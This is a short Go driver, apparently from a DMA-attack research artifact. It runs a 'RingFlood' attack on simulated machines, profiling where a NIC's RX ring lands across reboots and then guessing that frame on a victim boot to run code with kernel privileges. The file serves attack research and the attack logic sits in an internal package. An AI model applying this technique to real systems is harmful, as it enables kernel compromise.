// RingFlood (§5.3): profile the victim's boot determinism offline, then
// compromise a fresh boot by guessing where its RX ring landed.
package main

import (
	"fmt"
	"log"

	"dmafault/internal/attacks"
)

func main() {
	// Offline: the attacker owns an identical machine and reboots it,
	// recording which physical frames the NIC's RX ring lands on.
	const trials = 24
	study, err := attacks.RunBootStudyOpts(attacks.Kernel415, trials, 9_000, attacks.BootOptions{JitterPages: attacks.BootJitterPages})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("offline profile over %d reboots (kernel 4.15, HW LRO):\n", trials)
	fmt.Printf("  ring footprint: %d pages\n", study.FootprintPages)
	fmt.Printf("  modal PFN %d repeats in %.0f%% of boots (buffer offset %d)\n\n",
		study.ModalPFN, study.ModalRate*100, study.ModalOffset)

	// Online: a victim machine boots with a seed the attacker never saw.
	sys, nic, _, err := attacks.BootOnceOpts(attacks.Kernel415, 77_777, attacks.BootOptions{JitterPages: attacks.BootJitterPages})
	if err != nil {
		log.Fatal(err)
	}
	r := attacks.RunRingFlood(sys, nic, study)
	fmt.Print(r.String())
	if r.Success {
		fmt.Println("kernel compromised: arbitrary code ran with kernel privileges")
	}
}
